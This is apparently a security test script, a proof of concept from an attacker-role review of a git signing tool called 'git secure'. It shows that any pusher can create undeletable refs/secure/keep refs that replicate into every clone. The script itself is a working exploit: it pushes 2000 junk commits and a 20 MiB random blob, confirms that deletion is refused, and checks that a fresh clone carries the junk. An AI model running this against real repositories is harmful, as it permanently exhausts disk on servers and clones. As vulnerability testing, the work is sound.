#!/bin/bash
# 06 (attacker session 14, 03): any pusher (no key in the policy needed) stores arbitrary commits on
# the server forever and in every git-secure clone: the hook accepts the
# creation of refs/secure/keep/<H> for any commit H (hooks/run.go
# checkKeepRef checks only that the name is the commit's own hash), not
# only a state the log recorded and a force-push left behind, and refuses
# every deletion; the helper's fetch and git secure clone bring
# refs/secure/keep/* into each clone. So one push of N junk commits (or
# one commit holding a large blob) makes an undeletable, replicated load:
# disk on the server and every clone, a longer ref listing on every fetch.
D0=$(cd "$(dirname "$0")" && pwd)
N=${N:-2000} MB=${MB:-20}
. "$D0/lib.sh"; setup >/dev/null 2>&1
set +e # refused steps are the expected outcome
URL=file://$SRV
echo "server: $URL"
export HOME=$T/home/mallory GIT_CONFIG_NOSYSTEM=1
git init -q $T/raw; cd $T/raw
head -c $((MB<<20)) /dev/urandom > big; git add big; git commit -qm big
big=$(git rev-parse HEAD)
args="$big:refs/secure/keep/$big"
for i in $(seq $N); do
  c=$(echo "junk $i" | git commit-tree $(git mktree </dev/null))
  args="$args $c:refs/secure/keep/$c"
done
echo "== a raw push (plain git, no entry, no key) of $N junk keep refs and one $MB MiB blob:"
git push -q "$URL" $args 2>&1 | tail -2
echo "server keep refs: $(git --git-dir=$SRV for-each-ref refs/secure/keep | wc -l)"
echo "== deleting one (any pusher, alice included) is refused:"
git push "$URL" ":refs/secure/keep/$big" 2>&1 | grep -m1 -e error -e rejected
echo "== a fresh git secure clone (bob) receives them:"
HOME=$T/home/bob git secure clone -q "$URL" $T/fresh --root-key "$(fpr alice)" >/dev/null 2>&1
k=$(git -C $T/fresh for-each-ref refs/secure/keep | wc -l)
has=$(git -C $T/fresh cat-file -e $big 2>/dev/null && echo yes || echo no)
echo "fresh clone: $k keep refs; the $MB MiB junk commit present: $has; .git size: $(du -sm $T/fresh/.git | cut -f1) MB"
if [ "$k" -gt 1000 ] || [ "$has" = yes ]; then
  echo "VULNERABLE: arbitrary undeletable refs/objects replicated into every clone"; exit 1
fi
echo held
